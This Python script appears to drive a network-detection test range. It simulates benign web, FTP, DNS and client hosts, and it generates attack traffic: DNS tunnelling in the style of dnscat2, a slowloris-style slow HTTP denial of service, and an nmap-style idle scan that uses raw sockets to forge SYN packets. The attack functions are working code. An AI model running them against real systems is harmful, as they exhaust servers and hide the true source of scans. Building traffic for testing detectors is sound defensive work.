#!/usr/bin/env python3
"""Clean hosts of the gauntlet's network, and attacks for which there is no tool: actors.py ROLE ..."""
import random
import socket
import struct
import sys
import threading
import time

WEB, DATABASE, NAMES = "10.88.0.10", "10.88.0.11", "10.88.0.53"


def serve(port, family=socket.AF_INET):
    server = socket.socket(family, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if family == socket.AF_INET6:
        server.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    server.bind(("", port))
    server.listen(256)

    def answer(peer):
        with peer:
            peer.settimeout(60)
            try:
                while words := peer.recv(65536):
                    # The beginning of a request gets no answer.
                    if words.startswith(b"GET") or words == b"b\r\n":
                        continue
                    body = b"x" * 900
                    peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 900\r\n\r\n" + body)
            except OSError:
                pass

    while True:
        peer, _ = server.accept()
        threading.Thread(target=answer, args=(peer,), daemon=True).start()


def server(*ports):
    for port in ports:
        for family in (socket.AF_INET, socket.AF_INET6):
            threading.Thread(target=serve, args=(int(port), family), daemon=True).start()
    time.sleep(1e6)


def ftp():
    """Refuses every password."""
    server = socket.create_server(("", 21), backlog=64)

    def answer(peer):
        with peer:
            try:
                peer.settimeout(10)
                peer.sendall(b"220 ready\r\n")
                while word := peer.recv(4096):
                    refused = word.upper().startswith(b"PASS")
                    peer.sendall(b"530 wrong\r\n" if refused else b"331 password\r\n")
                    if refused:
                        return
            except OSError:
                pass

    while True:
        peer, _ = server.accept()
        threading.Thread(target=answer, args=(peer,), daemon=True).start()


def names():
    """Answers every question with one address."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("", 53))
    while True:
        query, sender = s.recvfrom(4096)
        end = query.index(b"\0", 12) + 5
        s.sendto(query[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + query[12:end]
                 + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\x0a\x58\0\x0a", sender)


def question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!6H", random.getrandbits(16), 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def call(host, port, size=200):
    with socket.create_connection((host, port), 2) as s:
        s.settimeout(2)
        s.sendall(b"q" * size)
        s.recv(65536)


def client():
    """Names, pages and now and then the database, over IPv4 and IPv6; one connection stays open."""
    idle = socket.create_connection((WEB, 80), 5)
    last = time.time()
    while True:
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(1)
                s.sendto(question(random.choice(["web", "db", "api"]) + ".shop.example"), (NAMES, 53))
                s.recv(1500)
            for _ in range(random.randint(1, 4)):
                call(WEB, 80)
            if random.random() < 0.2:
                call("fd88::10", 80)
            if random.random() < 0.1:
                call(DATABASE, 5432)
            if time.time() - last > 75:
                idle.sendall(b"still here")
                last = time.time()
        except OSError:
            pass
        time.sleep(random.uniform(0.3, 1.5))


def dns_tunnel(server_address, seconds):
    """Data in names, as dnscat2 sends it."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end = time.time() + float(seconds)
    while time.time() < end:
        data = "%0112x" % random.getrandbits(448)
        s.sendto(question(f"{data[:56]}.{data[56:]}.t.example.org"), (server_address, 53))
        time.sleep(0.1)


def slow_http(host, seconds):
    """Connections that send one header line every few seconds, as slowloris does."""
    end = time.time() + float(seconds)
    peers = []
    while time.time() < end:
        for _ in range(10):
            try:
                s = socket.create_connection((host, 80), 2)
                s.sendall(b"GET / HTTP/1.1\r\nX-a: ")
                peers.append(s)
            except OSError:
                pass
        for s in peers:
            try:
                s.sendall(b"b\r\n")
            except OSError:
                pass
        time.sleep(0.5)


def idle_scan(zombie, target, seconds):
    """The packets of nmap's idle scan: probes of the zombie, and SYNs in its name."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(source, destination, port, flags):
        segment = struct.pack("!HHIIBBHHH", 50000, port, random.getrandbits(32), 0, 0x50, flags, 1024, 0, 0)
        pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, 6, 20)
        total = sum(struct.unpack("!16H", pseudo + segment))
        total = (total & 0xFFFF) + (total >> 16)
        total = ~(total + (total >> 16)) & 0xFFFF
        segment = segment[:16] + struct.pack("!H", total) + segment[18:]
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0,
                             socket.inet_aton(source), socket.inet_aton(destination))
        raw.sendto(header + segment, (destination, 0))

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((zombie, 1))
        own = probe.getsockname()[0]
    end = time.time() + float(seconds)
    port = 1
    while time.time() < end:
        send(own, zombie, 80, 0x12)
        send(zombie, target, port, 0x02)
        send(own, zombie, 80, 0x12)
        port = port % 1000 + 1
        time.sleep(0.02)


if __name__ == "__main__":
    globals()[sys.argv[1].replace("-", "_")](*sys.argv[2:])
